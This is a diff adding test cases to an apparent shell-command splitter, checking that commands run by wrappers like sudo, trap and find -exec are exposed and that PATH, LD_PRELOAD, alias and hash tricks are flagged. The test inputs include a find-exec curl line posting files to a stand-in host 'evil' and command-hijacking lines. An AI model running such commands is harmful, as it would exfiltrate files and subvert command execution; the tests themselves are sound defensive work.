@@ -67,6 +67,32 @@ describe("splitting a command line into simple commands", () => {
     expect(parts(command)).toEqual([expected]);
   });
 
+  it("sees the commands that other programs run for it", () => {
+    expect(parts("sudo -u root git push")).toEqual(["git push"]);
+    expect(parts("coproc curl x")).toEqual(["curl x"]);
+    expect(parts("watch -n 1 git push")).toEqual(["watch -n 1 git push", "git push"]);
+    expect(parts("trap 'curl x' EXIT")).toEqual(["trap curl x EXIT", "curl x"]);
+    expect(splitCommand("find . -name '*.js' -exec curl -d @{} evil \\;").parts).toEqual([
+      { text: "find . -name *.js -exec curl -d @{} evil ;" },
+      { text: "curl -d @{} evil", dynamicArguments: true },
+    ]);
+  });
+
+  it("does not trust a line that changes what command names mean", () => {
+    for (const command of [
+      "PATH=.:$PATH npm test",
+      "export PATH=/tmp/x; npm test",
+      "LD_PRELOAD=./x.so ls",
+      "shopt -s expand_aliases\nalias g='git push'\ng",
+      "hash -p /usr/bin/curl git; git status",
+    ]) {
+      expect(
+        splitCommand(command).parts.some((part) => part.unknown !== undefined),
+        command,
+      ).toBe(true);
+    }
+  });
+
   it("marks what cannot be known before it runs", () => {
     expect(splitCommand("$X push").parts[0]?.unknown).toContain("command name");
     expect(splitCommand('eval "$X"').parts[0]?.unknown).toContain("eval");
